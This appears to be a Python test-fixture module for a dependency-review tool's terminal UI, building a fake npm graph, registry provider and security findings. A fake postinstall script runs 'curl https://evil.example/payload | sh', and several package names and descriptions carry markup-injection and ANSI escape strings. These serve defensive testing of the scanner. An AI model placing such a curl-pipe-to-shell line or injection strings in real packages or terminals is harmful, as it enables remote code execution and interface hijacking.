"""A small hand-built project, an in-memory provider and fixed findings for the TUI tests."""

from __future__ import annotations

import asyncio
import io
import json
import tarfile
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from reviewer.errors import RegistryError
from reviewer.graph.model import (
    DepKind,
    Edge,
    Graph,
    Importer,
    LockfileInfo,
    Package,
    importer_node,
)
from reviewer.registry.documents import Packument, Person, Publisher, VersionManifest
from reviewer.registry.interface import TarEntry
from reviewer.signals.finding import Evidence, Finding, Severity

EVIL_NAME = "[@click=app.quit]x"
ANSI_DESCRIPTION = "\x1b[31mred alert\x1b[0m [b]not bold[/b] \x07bell"
INSTALL_JS = (
    "const cp = require('child_process');\n"
    "cp.exec('curl https://evil.example/payload | sh');\n"
    "console.log('[@click=app.quit]done');\n"
)
T0 = datetime(2026, 1, 1, tzinfo=UTC)


def build_graph(lockfile: Path) -> Graph:
    graph = Graph(LockfileInfo(lockfile, "npm", "3"))
    root = graph.add_importer(Importer(".", "shop", "1.0.0"))
    packages = [
        Package("evil-scripts", "1.0.0", "sha512-evil", has_install_script=True),
        Package("left-pad", "1.3.0", "sha512-pad"),
        Package(EVIL_NAME, "1.0.0", "sha512-x"),
        Package("ansi-desc", "2.0.0", "sha512-ansi"),
        Package("dev-tool", "3.0.0", "sha512-dev", dev=True),
        Package("dep-a", "1.0.0", "sha512-a", dev=True),
        Package("dep-b", "2.0.0", "sha512-b2"),
        Package("dep-b", "1.0.0", "sha512-b1"),
    ]
    for package in packages:
        graph.add_package(package)
    for name, version, kind in [("evil-scripts", "1.0.0", DepKind.PROD), ("left-pad", "1.3.0", DepKind.PROD),
                                (EVIL_NAME, "1.0.0", DepKind.PROD), ("ansi-desc", "2.0.0", DepKind.PROD),
                                ("dev-tool", "3.0.0", DepKind.DEV)]:
        graph.add_edge(Edge(root.node, f"{name}@{version}", name, f"^{version}", kind))
    graph.add_edge(Edge("dev-tool@3.0.0", "dep-a@1.0.0", "dep-a", "^1.0.0"))
    graph.add_edge(Edge("dep-a@1.0.0", "dep-b@2.0.0", "dep-b", "^2.0.0"))
    graph.add_edge(Edge("evil-scripts@1.0.0", "dep-b@2.0.0", "dep-b", "^2.0.0"))
    graph.add_edge(Edge("ansi-desc@2.0.0", "dep-b@1.0.0", "dep-b", "^1.0.0"))
    assert importer_node(".") == root.node
    return graph


def _manifest(name: str, version: str, **extra: Any) -> VersionManifest:
    defaults: dict[str, Any] = {
        "maintainers": (Person("alice"),),
        "publisher": Publisher("alice"),
        "license": "MIT",
        "description": f"The {name} package",
        "repository": f"git+https://example.com/{name}.git",
        "has_provenance": False,
        "scripts": {},
    }
    defaults.update(extra)
    return VersionManifest(name, version, **defaults)


def build_packuments() -> dict[str, Packument]:
    def doc(name: str, versions: dict[str, VersionManifest]) -> Packument:
        times = {v: T0.replace(month=1 + i) for i, v in enumerate(versions)}
        return Packument(name, {"latest": list(versions)[-1]}, versions, times,
                         maintainers=(Person("alice"),), description=f"The {name} package")

    evil = doc("evil-scripts", {
        "0.9.0": _manifest("evil-scripts", "0.9.0"),
        "1.0.0": _manifest("evil-scripts", "1.0.0", scripts={"postinstall": "node install.js"},
                           maintainers=(Person("alice"), Person("mallory")),
                           publisher=Publisher("mallory")),
    })
    return {
        "evil-scripts": evil,
        "left-pad": doc("left-pad", {"1.2.0": _manifest("left-pad", "1.2.0"),
                                     "1.3.0": _manifest("left-pad", "1.3.0", license="WTFPL")}),
        EVIL_NAME: doc(EVIL_NAME, {"1.0.0": _manifest(EVIL_NAME, "1.0.0",
                                                      description="[@click=app.quit]click me")}),
        "ansi-desc": doc("ansi-desc", {"2.0.0": _manifest("ansi-desc", "2.0.0",
                                                          description=ANSI_DESCRIPTION,
                                                          deprecated="use something else")}),
        "dev-tool": doc("dev-tool", {"3.0.0": _manifest("dev-tool", "3.0.0", maintainers=None,
                                                        publisher=None, has_provenance=None)}),
        "dep-a": doc("dep-a", {"1.0.0": _manifest("dep-a", "1.0.0")}),
        "dep-b": doc("dep-b", {"1.0.0": _manifest("dep-b", "1.0.0"), "2.0.0": _manifest("dep-b", "2.0.0")}),
    }


class MemoryTarball:
    def __init__(self, files: dict[str, str]) -> None:
        self.files = {k: v.encode() for k, v in files.items()}

    @property
    def entries(self) -> Sequence[TarEntry]:
        return [TarEntry(path, len(data), "file") for path, data in self.files.items()]

    def read_bytes(self, path: str) -> bytes:
        return self.files[path]

    def read_text(self, path: str) -> str:
        return self.files[path].decode()


class FakeProvider:
    """In-memory MetadataProvider; `gate` (when set) holds every call until released."""

    def __init__(self) -> None:
        self.packuments = build_packuments()
        self.tarballs = {
            # package.json as the manifests say (else it is manifest confusion, and npm
            # would run the tarball's scripts)
            ("evil-scripts", "1.0.0"): MemoryTarball({
                "package.json": '{"name":"evil-scripts","scripts":{"postinstall":"node install.js"}}',
                "install.js": INSTALL_JS}),
            ("evil-scripts", "0.9.0"): MemoryTarball({"package.json": '{"name":"evil-scripts"}'}),
        }
        self.calls: list[str] = []
        self.gate: asyncio.Event | None = None

    async def packument(self, name: str) -> Packument:
        self.calls.append(f"packument {name}")
        if self.gate is not None:
            await self.gate.wait()
        try:
            return self.packuments[name]
        except KeyError:
            raise RegistryError(f"{name}: not found (404) \x1b[2J[red]boom[/red]") from None

    async def tarball(self, name: str, version: str, integrity: str | None,
                      url: str | None = None) -> MemoryTarball:
        self.calls.append(f"tarball {name}@{version}")
        if self.gate is not None:
            await self.gate.wait()
        try:
            return self.tarballs[(name, version)]
        except KeyError:
            raise RegistryError(f"{name}@{version}: tarball not found") from None


FINDINGS: dict[str, list[Finding]] = {
    "evil-scripts@1.0.0": [
        Finding("install-script", Severity.MODERATE, "postinstall: node install.js", "evil-scripts@1.0.0"),
        Finding("suspicious-code", Severity.CRITICAL, "install script code: network access, runs processes",
                "evil-scripts@1.0.0", evidence=(Evidence("install.js", 2, "cp.exec("),)),
        Finding("new-publisher", Severity.HIGH, "published by mallory, who published none of the 1 earlier versions",
                "evil-scripts@1.0.0"),
    ],
    "ansi-desc@2.0.0": [Finding("deprecated", Severity.MODERATE, "deprecated: use something else",
                                "ansi-desc@2.0.0")],
    f"{EVIL_NAME}@1.0.0": [Finding("typosquat", Severity.MODERATE, f"{EVIL_NAME} is one edit from x",
                                   f"{EVIL_NAME}@1.0.0")],
    "left-pad@1.3.0": [Finding("advisory", Severity.HIGH, "Prototype pollution [@click=app.quit]in left-pad",
                               "left-pad@1.3.0", details={"advisory": "GHSA-1234-abcd", "url": "https://example.com/a"})],
    "dev-tool@3.0.0": [Finding("trust-downgrade", Severity.LOW, "not provided by this registry",
                               "dev-tool@3.0.0", unknown=True)],
}


async def fake_reviewer(package: Package) -> list[Finding]:
    return list(FINDINGS.get(package.key, []))


async def settle(pilot: Any) -> None:
    """Wait for the scan (started after the first paint) and the tab workers, then for the
    detail pane, which follows the cursor after a short rest, and the screen to catch up."""
    for _ in range(3):
        await pilot.app.workers.wait_for_complete()
        await pilot.pause(0.25)


async def wait_until(pilot: Any, condition: Any, seconds: float = 5.0) -> None:
    """Pause until `condition()` holds (or `seconds` pass): for what a loaded machine does
    later than an idle one. The caller then asserts it."""
    for _ in range(int(seconds / 0.1)):
        if condition():
            return
        await pilot.pause(0.1)


def policy_text(project: Path) -> str:
    return (project / "reviewer-policy.toml").read_text(encoding="utf-8")


def tar_bytes(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"package/{path}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def rendered_text(widget: Any, width: int = 200) -> str:
    """What a Static shows, as plain text (rich renderables rendered, Content as is)."""
    from rich.console import Console
    from textual.content import Content

    content = widget.content
    if isinstance(content, Content):
        return content.plain
    if isinstance(content, str):
        return content
    console = Console(width=width, record=True, file=io.StringIO(), color_system=None)
    console.print(content)
    return console.export_text()


DOCUMENTS = Path(__file__).resolve().parent.parent / "data" / "registry" / "documents"


def fixture_graph(project: Path) -> Graph:
    graph = Graph(LockfileInfo(project / "package-lock.json", "npm", "3"))
    root = graph.add_importer(Importer(".", "app", "1.0.0"))
    for name, version in (("bufferutil", "4.1.0"), ("left-pad", "1.3.0")):
        document = json.loads((DOCUMENTS / f"{name}.json").read_text())
        integrity = document["versions"][version]["dist"]["integrity"]
        graph.add_package(Package(name, version, integrity))
        graph.add_edge(Edge(root.node, f"{name}@{version}", name, f"^{version}"))
    return graph
